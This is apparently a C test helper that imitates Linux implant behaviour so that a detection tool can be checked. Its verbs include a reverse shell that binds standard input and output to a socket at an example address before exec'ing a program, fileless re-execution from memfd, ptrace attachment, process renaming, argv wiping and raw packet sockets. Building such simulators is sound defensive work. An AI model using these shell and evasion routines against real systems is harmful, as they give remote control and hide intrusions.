/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Plays one part of an implant or of its harmless twin; copied to the name and place that the case
 * wants. Ends by itself after ten minutes, and with its parent. */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <pty.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <fcntl.h>
#include <unistd.h>

static int fail(const char *what)
{
	perror(what);
	return 1;
}

__attribute__((noreturn)) static int stay(void)
{
	printf("ready %d\n", getpid());
	fflush(stdout);
	alarm(600);
	for (;;)
		pause();
}

/* "203.0.113.5:443" */
static int dial(const char *to, int type)
{
	struct sockaddr_in sa = {.sin_family = AF_INET};
	char host[64];
	int fd = socket(AF_INET, type, 0);

	snprintf(host, sizeof(host), "%s", to);
	host[strcspn(host, ":")] = 0;
	sa.sin_port = htons((unsigned short)atoi(to + strlen(host) + 1));
	inet_pton(AF_INET, host, &sa.sin_addr);
	return connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 ? -1 : fd;
}

/* Standard input, output and error become fd; then the program. */
static int become(int in, int out, char **argv)
{
	printf("ready %d\n", getpid());
	fflush(stdout);
	dup2(in, 0);
	dup2(out, 1);
	dup2(out, 2);
	for (int i = 3; i < 64; i++)
		close(i);
	execvp(argv[0], argv);
	return fail(argv[0]);
}

static int socket_itself(char **a)
{
	int fd = dial(a[0], SOCK_STREAM);

	return fd < 0 ? fail("connect") : become(fd, fd, a + 1);
}

/* A child that has the socket, and we are the service above it. */
static int serve(char **a)
{
	int fd = dial(a[0], SOCK_STREAM);

	if (fd < 0)
		return fail("connect");
	if (!fork())
		return become(fd, fd, a + 1);
	close(fd);
	return stay();
}

static int relay(const char *how, char **a)
{
	int fd = strcmp(a[0], "-") ? dial(a[0], SOCK_STREAM) : -1, in[2], out[2], pair[2];
	pid_t pid;

	if (strcmp(a[0], "-") && fd < 0)
		return fail("connect");
	if (!strcmp(how, "pty")) {
		int master;
		fflush(stdout);
		int report = dup(1);
		pid = forkpty(&master, NULL, NULL, NULL);
		if (!pid) {
			dprintf(report, "ready %d\n", getpid());
			for (int i = 3; i < 64; i++)
				close(i);
			execvp(a[1], a + 1);
			return 1;
		}
		close(report);
		return stay();
	}
	if (pipe(in) || pipe(out) || socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		return fail("pipe");
	if (!fork())
		return strcmp(how, "pair") ? become(in[0], out[1], a + 1)
		                           : become(pair[1], pair[1], a + 1);
	close(in[0]);
	close(out[1]);
	close(pair[1]);
	return stay();
}

static int listens(char **a)
{
	struct sockaddr_in sa = {.sin_family = AF_INET,
	                         .sin_port = htons((unsigned short)atoi(a[0]))};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(fd, 1) < 0)
		return fail("listen");
	return stay();
}

/* Runs again from a copy in memory, under the name given. */
static int in_memory(char **a)
{
	int fd = memfd_create(a[1] ? a[1] : "x", MFD_CLOEXEC);
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	struct stat st;
	char path[64];

	if (fd < 0 || fstat(self, &st) < 0 || sendfile(fd, self, NULL, (size_t)st.st_size) < 0)
		return fail("memfd");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	execv(path, (char *[]){a[0], (char[]){"stay"}, NULL});
	return fail("exec");
}

static int traces(char **a)
{
	if (ptrace(PTRACE_SEIZE, atoi(a[0]), NULL, NULL) < 0)
		return fail("ptrace");
	return stay();
}

static int traces_child(void)
{
	pid_t pid = fork();

	if (!pid) {
		for (;;)
			pause();
	}
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return fail("ptrace");
	printf("ready %d\n", pid);
	return stay();
}

static int no_arguments(int argc, char **argv)
{
	char *end = argv[argc - 1] + strlen(argv[argc - 1]);

	memset(argv[0], 0, (size_t)(end - argv[0]));
	return stay();
}

/* A child of ours, for services that start shells: pipes, no socket. */
static int parent(char **a)
{
	return relay("pipes", (char *[]){(char[]){"-"}, a[0], a[1], a[2], a[3], NULL});
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "stay";
	char **a = argv + 2;

	prctl(PR_SET_PDEATHSIG, 9);
	if (argc > 3 && !strcmp(verb, "comm")) {
		prctl(PR_SET_NAME, argv[2]);
		verb = argv[3];
		a = argv + 4;
	}
	if (!strcmp(verb, "stay"))
		return stay();
	if (!strcmp(verb, "socket"))
		return socket_itself(a);
	if (!strcmp(verb, "serve"))
		return serve(a);
	if (!strcmp(verb, "pipes") || !strcmp(verb, "pair") || !strcmp(verb, "pty"))
		return relay(verb, a);
	if (!strcmp(verb, "-l") || !strcmp(verb, "listen"))
		return listens(a);
	if (!strcmp(verb, "memory"))
		return in_memory(a);
	if (!strcmp(verb, "trace"))
		return traces(a);
	if (!strcmp(verb, "trace-child"))
		return traces_child();
	if (!strcmp(verb, "no-arguments"))
		return no_arguments(argc, argv);
	if (!strcmp(verb, "parent"))
		return parent(a);
	if (!strcmp(verb, "packet"))
		return socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) < 0 ? fail("socket") : stay();
	if (!strcmp(verb, "xdp"))
		return socket(AF_XDP, SOCK_RAW, 0) < 0 ? fail("socket") : stay();
	if (!strcmp(verb, "raw"))
		return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) < 0 ? fail("socket") : stay();
	fprintf(stderr, "no verb %s\n", verb);
	return 2;
}
